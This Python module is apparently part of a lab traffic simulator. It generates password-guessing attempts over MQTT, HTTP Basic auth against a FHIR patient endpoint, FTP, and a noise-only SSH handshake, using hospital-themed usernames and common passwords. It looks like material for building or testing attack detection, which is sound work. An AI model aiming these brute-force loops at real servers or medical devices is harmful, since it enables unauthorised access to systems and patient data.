"""Guessing passwords over MQTT, HTTP, FTP, and over SSH up to its key exchange."""

import base64
import contextlib
import socket

from tools.lab.attacks.scene import Scene, connect
from tools.lab.devices.logins import key_exchange, read_line
from tools.lab.devices.mqtt import connect_packet

_USERS = ("admin", "root", "monitor", "nurse", "pump", "service", "guest", "biomed")
_WORDS = ("password", "admin", "123456", "hospital", "welcome", "default", "letmein", "qwerty", "service")


def _guess(scene: Scene) -> tuple[str, str]:
    random = scene.random
    return random.choice(_USERS), random.choice(_WORDS) + str(random.randrange(10_000))


def mqtt_guessing(scene: Scene) -> None:
    """Log in to the broker, again and again."""
    for _ in scene.turns():
        user, password = _guess(scene)
        with contextlib.suppress(OSError), connect(scene) as connection:
            connection.sendall(connect_packet(f"{scene.random.getrandbits(32):x}", user, password))
            connection.recv(64)


def http_guessing(scene: Scene) -> None:
    """Ask with one login after the other, over one connection or over one for each."""
    keeps = scene.random.random() < 0.5
    connection: socket.socket | None = None
    for _ in scene.turns():
        login = base64.b64encode(":".join(_guess(scene)).encode()).decode()
        request = f"GET /fhir/Patient HTTP/1.1\r\nHost: {scene.victim.address}\r\nAuthorization: Basic {login}\r\n\r\n"
        with contextlib.suppress(OSError):
            connection = connection or connect(scene)
            connection.sendall(request.encode())
            connection.recv(4096)
        if connection is not None and not keeps:
            connection.close()
            connection = None
    if connection is not None:
        connection.close()


def ftp_guessing(scene: Scene) -> None:
    """Log in to the FTP server, a few times in each connection."""
    tries = scene.random.randint(1, 3)
    for _ in scene.turns():
        with contextlib.suppress(OSError, EOFError), connect(scene) as connection:
            read_line(connection)
            for _ in range(tries):
                user, password = _guess(scene)
                for command in (f"USER {user}", f"PASS {password}"):
                    connection.sendall(f"{command}\r\n".encode())
                    read_line(connection)


def ssh_guessing(scene: Scene) -> None:
    """Greet, exchange keys of noise, and send what is as long as logins are; then begin anew."""
    tries = scene.random.randint(1, 4)
    for _ in scene.turns():
        with contextlib.suppress(OSError, EOFError), connect(scene) as connection:
            read_line(connection)
            connection.sendall(b"SSH-2.0-libssh_0.10.6\r\n" + key_exchange(scene.random))
            connection.recv(4096)
            for _ in range(tries):
                connection.sendall(scene.random.randbytes(scene.random.randint(64, 148)))
                connection.recv(4096)
